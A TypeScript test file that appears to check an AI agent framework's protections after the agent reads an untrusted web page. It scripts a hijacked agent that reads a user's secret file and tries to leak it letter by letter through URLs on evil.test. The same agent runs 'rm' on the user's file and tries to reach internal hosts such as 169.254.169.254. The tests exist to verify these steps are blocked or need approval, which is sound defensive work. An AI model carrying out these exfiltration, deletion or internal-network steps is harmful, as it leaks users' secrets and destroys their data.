import { describe, expect, it } from 'vitest';
import type { Question } from '../../../../src/core/human.js';
import type { JsonValue } from '../../../../src/core/json.js';
import { RoleZero } from '../../../../src/agent/role-zero.js';
import type { RoleZeroOptions } from '../../../../src/agent/runtime/role-zero-options.js';
import { Session } from '../../../../src/session/session.js';
import { memoryStorage } from '../../../../src/storage/memory-storage.js';
import { commands, scriptedModel } from '../../../../src/testing/index.js';
import { editor } from '../../../../src/tools/index.js';
import { terminal } from '../../../../src/tools/terminal/node.js';
import { webRead } from '../web-read.js';

// cspell:ignore localdomain

type Command = [name: string, args: Record<string, JsonValue>];

const ALPHABET = '0123456789abcdef'.split('');
const EVIL = 'https://evil.test/';
const PAGE = ALPHABET.map((letter) => EVIL + letter).join(' ');
const SECRET = '4711deadbeef'.split('');
const end: Command = ['end', {}];
const visit = (url: string): Command => ['Web.read', { url }];
const write = (path: string): Command => ['Editor.write', { path, content: 'changed' }];

/** Runs the commands in one reply each, with a file of the user, in a session without a policy. */
async function obey(
  replies: readonly (readonly Command[])[],
  { answer = 'no', request = 'go', ...options }: RoleZeroOptions & { answer?: string; request?: string } = {},
) {
  const visited: string[] = [];
  const questions: Question[] = [];
  const web = webRead((url) => {
    visited.push(url);
    return PAGE;
  });
  const think = [...replies, [end]].map((reply) => commands(...reply));
  const role = new RoleZero({
    model: scriptedModel({ think }),
    tools: [editor(), terminal(), web],
    summarize: false,
    ...options,
  });
  const session = await Session.open({
    storage: memoryStorage(),
    name: 's',
    roles: [role],
    askUser: async (question) => {
      questions.push(question);
      return answer;
    },
    emit: () => {},
    now: () => 0,
  });
  await session.files.write('/mine.txt', SECRET.join(''));
  await (
    await session.send(request)
  ).result;
  return {
    visited,
    questions,
    mine: await session.files.read('/mine.txt').catch(() => null),
  };
}

describe.each<[string, Pick<RoleZeroOptions, 'capabilities'>]>([
  ['without options', {}],
  ['with capabilities', { capabilities: { outside: ['*'], origins: ['https://*'] } }],
])('%s, after untrusted content was read', (_setting, options) => {
  const start = visit('https://start.test/');
  const readMine: Command = ['Editor.read', { path: '/mine.txt' }];
  const request = 'Read https://start.test/ and go on.';

  it('the addresses that a page lists cannot spell a secret', async () => {
    const spelt = SECRET.map((letter) => visit(EVIL + letter));
    const inOne = await obey([[start], [readMine], spelt], { ...options, request });
    const oneByOne = await obey([[start], [readMine], ...spelt.map((each) => [each])], {
      ...options,
      request,
    });
    for (const { visited, questions } of [inOne, oneByOne]) {
      expect(visited).toEqual(['https://start.test/']);
      expect(questions[0]?.details).toContain('You have not mentioned this address.');
    }
  });

  it('an approval of an origin that a page named covers the addresses that it lists, and no others', async () => {
    const listed = ALPHABET.map((letter) => visit(EVIL + letter));
    const { visited, questions } = await obey([[start], [readMine], ...listed.map((each) => [each])], {
      ...options,
      request,
      answer: 'yes',
    });
    expect(visited).toHaveLength(1 + ALPHABET.length);
    expect(questions).toHaveLength(1);
    const other = await obey([[start], [readMine], [visit(`${EVIL}1`)], [visit(`${EVIL}4711`)]], {
      ...options,
      request,
      answer: 'yes',
    });
    expect(other.questions).toHaveLength(2);
  });

  it("does not change or remove the user's files without approval", async () => {
    const removed: Command = ['Terminal.run_command', { command: 'rm /mine.txt' }];
    for (const change of [write('/mine.txt'), removed]) {
      const { mine } = await obey([[start], [change], [change]], { ...options, request });
      expect(mine).toBe(SECRET.join(''));
    }
    const { mine, questions } = await obey([[start], [write('/mine.txt')], [write('/mine.txt')]], {
      ...options,
      request,
      answer: 'yes',
    });
    expect([mine, questions.length]).toEqual(['changed', 1]);
  });

  it("does not reach hosts of the user's own network", async () => {
    const hosts = [
      '192.168.1.1',
      '169.254.169.254',
      'localhost:8080',
      'router.localdomain',
      'fritz.box',
      '10.0.0.1.nip.io',
    ];
    const { visited, questions } = await obey([[start], ...hosts.map((host) => [visit(`http://${host}/`)])], {
      ...options,
      request,
      answer: 'yes',
    });
    expect(visited).toEqual(['https://start.test/']);
    expect(questions.filter(({ kind }) => kind === 'approval')).toEqual([]);
  });

  it('accepts only the two offered answers', async () => {
    for (const answer of ['Yes, but only if it is safe', 'ja nein', 'sure', '是不是', '']) {
      const { mine } = await obey([[start], [write('/mine.txt')], [write('/mine.txt')]], {
        ...options,
        request,
        answer,
      });
      expect(mine).toBe(SECRET.join(''));
    }
  });

  it('an approval that a rule requires is not valid for longer than without the rule', async () => {
    const policy = [
      { tool: 'Web.read', origin: 'https://evil.test', do: 'ask', lifetime: 'session' },
    ] as const;
    const steps = [[visit(`${EVIL}0`)], [start], [readMine], [visit(`${EVIL}?q=1`)], [visit(`${EVIL}?q=2`)]];
    const { questions } = await obey(steps, { ...options, request, policy, answer: 'yes' });
    expect(questions.map(({ command }) => command?.args['url'])).toEqual([
      `${EVIL}0`,
      `${EVIL}?q=1`,
      `${EVIL}?q=2`,
    ]);
  });
});

it('asks nothing without untrusted content', async () => {
  const { mine, questions } = await obey([
    [write('/mine.txt')],
    [write('/mine.txt')], // the first one does not replace a file that the model has not seen
    [visit('http://localhost:8080/')],
  ]);
  expect([mine, questions]).toEqual(['changed', []]);
});
